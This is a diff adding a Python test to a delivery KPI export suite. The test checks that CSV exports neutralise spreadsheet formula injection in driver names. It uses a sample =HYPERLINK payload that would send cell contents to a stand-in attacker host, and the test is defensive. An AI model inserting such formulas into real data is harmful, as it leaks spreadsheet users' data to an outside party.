@@ -487,3 +487,18 @@ def test_a_delivery_ops_assign_during_its_hold_took_no_time_to_assign(merchant, 
     reassignment.force_assign(delivery.pk, driver_id=ana.pk, actor=Actor.ops(ops_user))
     figures = kpis.kpi_report(DAY, DAY, zone=zones["centro"]).deliveries
     assert (figures["time_to_assign_p50_s"], figures["time_to_assign_p90_s"]) == (0.0, 0.0)
+
+
+def test_names_that_a_spreadsheet_would_run_as_formulas_are_exported_as_text(three_deliveries, ops_api, zones):
+    from drivers.models import Driver
+
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Ana")'
+    Driver.objects.filter(pk=three_deliveries["a"].pk).update(name=formula)
+    query = {"from": "2026-11-25", "to": "2026-11-25", "zone": "centro"}
+    names = {row["name"] for row in ops_api.get("/api/v1/ops/kpis", query).json()["drivers"]}
+    assert formula in names  # the JSON holds the name as typed
+
+    streamed = ops_api.get("/api/v1/ops/kpis", query | {"format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(streamed.streaming_content).decode())))
+    assert {row["name"] for row in rows if row["table"] == "drivers"} == {"'" + formula, "Bruno B"}
+    assert all(not value.startswith(("=", "+", "@")) for row in rows for value in row.values())
